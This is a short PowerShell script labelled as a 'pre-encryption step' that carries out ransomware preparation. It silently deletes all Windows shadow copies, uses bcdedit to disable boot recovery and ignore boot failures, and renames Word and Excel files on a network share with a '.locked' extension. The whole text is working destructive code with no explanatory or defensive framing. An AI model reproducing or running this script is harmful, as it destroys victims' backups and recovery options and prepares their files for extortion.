# pre-encryption step
$ErrorActionPreference = 'SilentlyContinue'
$shadows = Get-WmiObject -Class Win32_ShadowCopy
foreach ($s in $shadows) {
    $s.Delete()
}
bcdedit /set '{default}' recoveryenabled no
bcdedit /set '{default}' bootstatuspolicy ignoreallfailures
Get-ChildItem -Path 'D:\Shares' -Recurse -File -Include *.docx, *.xlsx |
    ForEach-Object { Rename-Item -Path $_.FullName -NewName ($_.Name + '.locked') }
